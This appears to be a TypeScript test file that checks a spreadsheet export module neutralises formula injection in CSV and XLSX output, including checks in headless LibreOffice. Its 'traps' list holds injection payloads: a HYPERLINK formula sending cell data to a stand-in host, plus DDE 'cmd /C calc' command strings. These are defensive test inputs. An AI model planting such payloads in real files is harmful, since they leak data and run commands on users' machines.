/** Lists that go out: what stands in a cell comes back as it was, and nothing begins a formula, here or in LibreOffice. */
import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";

import { cell } from "./grid.ts";
import { asWritten, neutral } from "./neutral.ts";
import { readList } from "./read.ts";
import { csvOf, xlsxOf, type Table } from "./write.ts";

const signs = [
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n",
  "＝",
  "＋",
  "－",
  "＠",
  "'",
  '"',
  ",",
  ";",
  "|",
  " ",
  "_x000D_",
  "1",
];
const anyCell = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc.array(fc.constantFrom(...signs), { maxLength: 8 }).map((all) => all.join("")),
);
const anyTable: fc.Arbitrary<Table> = fc.integer({ min: 2, max: 5 }).chain((width) =>
  fc.record({
    headings: fc.constant(Array.from({ length: width }, (_, at) => `Столбец ${at}`)),
    // The first holds a word, or a row of nothing would be no row.
    rows: fc.array(
      fc
        .array(anyCell, { minLength: width, maxLength: width })
        .map((cells) => cells.map((text, at) => (at === 0 ? `${text}я` : text))),
      { minLength: 1, maxLength: 6 },
    ),
  }),
);
/** Air around a cell is nobody's words: our reading takes it off, whoever wrote it. */
const asRead = ({ headings, rows }: Table) => [headings, ...rows].map((cells) => cells.map(cell));

function cameBack(bytes: Uint8Array, width: number) {
  const [grid] = readList(bytes).grids;
  return (grid?.rows ?? []).map(({ cells }) => Array.from({ length: width }, (_, at) => cells[at] ?? ""));
}

test("any text goes out and comes in the same, in both kinds of file", () => {
  fc.assert(
    fc.property(anyTable, (table) => {
      expect(cameBack(xlsxOf(table), table.headings.length)).toEqual(asRead(table));
      expect(cameBack(csvOf(table), table.headings.length)).toEqual(asRead(table));
    }),
    { seed: 71, numRuns: 300 },
  );
});

test("the apostrophe comes off again and leaves the very text", () => {
  fc.assert(
    fc.property(anyCell, (text) => {
      expect(asWritten(neutral(text))).toBe(text);
    }),
    { seed: 72, numRuns: 2_000 },
  );
});

test("no cell of a CSV begins a formula, whatever sign a program cuts it at, half-width or full-width", () => {
  fc.assert(
    fc.property(anyTable, (table) => {
      const text = new TextDecoder().decode(csvOf(table));
      for (const delimiter of [";", ",", "\t", "|"]) {
        const cells = Papa.parse<string[]>(text, { delimiter }).data.flat();
        // Cut at another sign, a quote may run on over the end of our line.
        const begun = cells.map((one) => one.replace(/^(?:\r\n)+/u, ""));
        expect(begun.filter((one) => /^"*[=+\-@\t\r＝＋－＠]/u.test(one))).toEqual([]);
      }
    }),
    { seed: 73, numRuns: 300 },
  );
});

const traps = [
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=DDE("soffice";"x";"y")',
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "слова,=1+1",
  "слова;=1+1",
  "слова\n=1+1",
  '",=1+1,"',
];

describe.skipIf(!existsSync("/usr/lib/libreoffice/program/libsclo.so"))("LibreOffice", () => {
  test(
    "opens both and finds text in every cell; the same words by themselves are formulas",
    { timeout: 120_000 },
    () => {
      const directory = mkdtempSync(join(tmpdir(), "answerable-out-"));
      const table = { headings: ["Имя", "Что"], rows: traps.map((trap) => ["Лада", trap]) };
      const put = (name: string, bytes: Uint8Array | string) => writeFileSync(join(directory, name), bytes);
      put("neutral.csv", csvOf(table));
      put("list.xlsx", xlsxOf(table));
      put("bare.csv", '"Имя";"Что"\r\n"Лада";"=1+1"\r\n');
      const opened = (names: readonly string[], sign: number): readonly string[] => {
        const options = [
          `-env:UserInstallation=file://${directory}/profile`,
          "--headless",
          `--infilter=Text - txt - csv (StarCalc):${sign},34,76,1`,
          "--convert-to",
          "fods",
          "--outdir",
          directory,
        ];
        execFileSync("/usr/bin/soffice", [...options, ...names.map((name) => join(directory, name))], {
          timeout: 110_000,
          stdio: "pipe",
        });
        return names.map((name) => readFileSync(join(directory, name.replace(/\..*$/u, ".fods")), "utf8"));
      };
      try {
        const formula = /table:formula=/u;
        const [neutralised = "", bare = ""] = opened(["neutral.csv", "bare.csv"], 59);
        expect(bare).toMatch(formula);
        expect(neutralised).not.toMatch(formula);
        expect(neutralised).toContain("HYPERLINK");
        const [cutElsewhere = ""] = opened(["neutral.csv"], 44);
        expect(cutElsewhere).not.toMatch(formula);
        execFileSync(
          "/usr/bin/soffice",
          [
            `-env:UserInstallation=file://${directory}/profile`,
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            directory,
            join(directory, "list.xlsx"),
          ],
          { timeout: 110_000, stdio: "pipe" },
        );
        const book = readFileSync(join(directory, "list.fods"), "utf8");
        expect(book).not.toMatch(formula);
        expect(book).toContain("HYPERLINK");
      } finally {
        rmSync(directory, { recursive: true });
      }
    },
  );
});
